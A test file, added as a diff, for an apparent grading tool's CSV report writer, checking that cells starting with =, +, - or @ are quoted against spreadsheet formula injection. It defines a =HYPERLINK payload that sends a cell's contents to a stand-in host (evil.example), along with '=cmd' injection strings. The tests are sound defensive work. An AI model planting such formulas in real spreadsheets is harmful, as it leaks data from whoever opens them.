@@ -1,0 +1,47 @@
+"""instructor.reports: one escaping function, and CSV cells a spreadsheet never runs as formulas.
+
+A student chooses the file name the gradebook shows and the name.txt the leaderboard shows; a
+cell starting with ``=``, ``+``, ``-`` or ``@`` would run as a formula when the instructor opens
+the CSV in a spreadsheet (``=HYPERLINK(...)`` sends data elsewhere on a click).
+"""
+
+from __future__ import annotations
+
+import csv
+
+import pytest
+
+from helpers.competition import Entry
+from instructor.grading import GradeRow
+from instructor.reports import plain, write_gradebook_csv, write_leaderboard_csv, write_lms_csv
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(lead):
+    assert plain(f"{lead}1+1", "csv") == f"'{lead}1+1"
+    assert plain(f"{lead}1+1", "text") == f"{lead}1+1", "only CSV needs the quote"
+
+
+def test_csv_quoting_looks_at_the_text_after_cleaning():
+    assert plain("\x1b[31m=cmd\x1b[0m", "csv") == "'=cmd", "an ANSI prefix does not hide it"
+    assert plain("\n\t =cmd", "csv") == "'=cmd", "nor does leading white space"
+    assert plain("Ann = Bob", "csv") == "Ann = Bob"
+
+
+def _cells(path) -> list[str]:
+    with open(path, newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def test_no_report_csv_starts_a_cell_with_a_formula(tmp_path):
+    rows = [GradeRow(FORMULA, "01_one_hot_encoding.ipynb", "encode", 0, 1, FORMULA)]
+    write_gradebook_csv(rows, tmp_path / "gradebook.csv")
+    write_lms_csv(rows, tmp_path / "lms.csv")
+    entry = Entry(folder=FORMULA, name=FORMULA, sentence=f"ROMEO: {FORMULA}", reason=FORMULA)
+    write_leaderboard_csv([entry], tmp_path / "board.csv", sandboxed=True)
+    for name in ("gradebook.csv", "lms.csv", "board.csv"):
+        cells = _cells(tmp_path / name)
+        assert f"'{FORMULA}" in cells, name
+        assert not [c for c in cells if c[:1] in "=+-@" and c], (name, cells)
